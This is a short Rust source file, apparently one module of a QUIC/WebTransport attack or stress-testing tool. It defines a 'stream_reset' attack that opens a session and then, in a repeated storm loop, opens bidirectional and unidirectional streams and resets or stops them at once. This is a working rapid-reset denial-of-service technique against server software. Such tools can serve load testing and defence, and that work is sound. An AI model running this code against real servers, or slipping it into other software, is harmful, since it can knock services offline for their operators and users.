//! Rapid reset of the streams of a session, of both kinds.

use quinn_proto::StreamId;

use crate::attacker::{Attack, Attacker};
use crate::conn::number;
use crate::wire;

pub(super) const ATTACK: Attack = Attack::new("stream_reset", "streams of a session, each reset at once", run);

fn run(a: &mut Attacker) {
    let path = a.kind.open_session();
    a.storm(|conn, (held, streams): &mut (Option<StreamId>, Vec<StreamId>)| {
        let Some(session) = conn.session(held, path) else {
            return;
        };
        for id in streams.drain(..) {
            conn.reset(id, 0x10c);
        }
        while let Some(id) = conn.request(&wire::bidi_of(number(session))) {
            conn.stop(id, 0x10c);
            streams.push(id);
            conn.ops += 1;
        }
        while let Some(id) = conn.open_uni(&wire::uni_of(number(session))) {
            streams.push(id);
            conn.ops += 1;
        }
    });
}
